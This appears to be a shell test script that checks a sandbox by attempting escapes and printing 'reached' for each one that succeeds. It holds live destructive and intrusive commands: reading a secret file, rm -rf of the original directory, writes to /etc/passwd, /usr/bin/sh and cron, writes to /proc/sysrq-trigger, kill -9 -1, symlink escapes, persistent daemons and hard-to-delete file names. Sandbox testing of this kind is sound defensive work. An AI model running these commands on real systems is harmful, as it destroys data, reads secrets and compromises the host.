# A tool that attacks: sh -c THIS hostile ORIGINAL SECRET HOST_PID PORT TOKEN
# It prints "reached WHAT" for each attempt that succeeds, and "end" if it gets there.
original=$1 secret=$2 pid=$3 port=$4 token=$5-left
workspace=$PWD

# files outside
cat "$secret" 2>/dev/null && echo "reached secret"
ls "$original" >/dev/null 2>&1 && echo "reached original"
echo overwritten 2>/dev/null >"$original/kept.txt" && echo "reached kept.txt"
rm -rf "$original" 2>/dev/null
for file in /etc/passwd /usr/bin/sh /usr/replay-hostile /etc/cron.d/replay-hostile; do
  (echo attack >>"$file") 2>/dev/null && [ "$file" != /etc/passwd ] && echo "reached $file"
done
mount -t tmpfs none /usr 2>/dev/null && echo "reached mount"
mknod disk b 8 0 2>/dev/null && head -c 1 disk >/dev/null 2>&1 && echo "reached disk"
unshare -Ur true 2>/dev/null && echo "reached namespace"
# opened for writing, and nothing written: the machine must survive a defect of the sandbox
for file in /proc/sys/kernel/core_pattern /proc/sys/kernel/panic /proc/sysrq-trigger /proc/mtrr; do
  perl -e 'exit(open(my $f, "+<", $ARGV[0]) ? 0 : 1)' "$file" && echo "reached $file"
done

# links out of the workspace
ln -s "$original" link
ln -s / root
(echo attack >link/kept.txt) 2>/dev/null && echo "reached link"
rm -rf link/ root/ 2>/dev/null
ln -sf "$original" link
ln "$secret" hard 2>/dev/null && echo "reached hard link"

# processes of the machine, and the network
kill -9 "$pid" 2>/dev/null
kill -9 -1 2>/dev/null
grep -l '[/]bin/java' /proc/[0-9]*/cmdline 2>/dev/null && echo "reached processes"
perl -e '
  socket(my $s, 2, 1, 0) or exit 0;
  connect($s, pack("S n C4 x8", 2, $ARGV[0], 127, 0, 0, 1)) and print "reached network\n";
' "$port" 2>/dev/null

# daemons
for i in 1 2 3 4 5; do
  setsid sh -c "trap '' HUP TERM INT; sleep 300; : $token" </dev/null >/dev/null 2>&1 &
done

# deep trees, names that are hard to delete, and the workspace itself
i=0
while [ $i -lt 1500 ]; do
  mkdir d && cd d || break
  i=$((i + 1))
done
cd "$workspace" || exit 1
mkdir locked && echo x >locked/file && chmod 000 locked
touch -- "-rf" "$(printf 'line\nbreak')" 2>/dev/null
find . -name '*.txt' -delete 2>/dev/null
rmdir "$workspace" 2>/dev/null

echo end
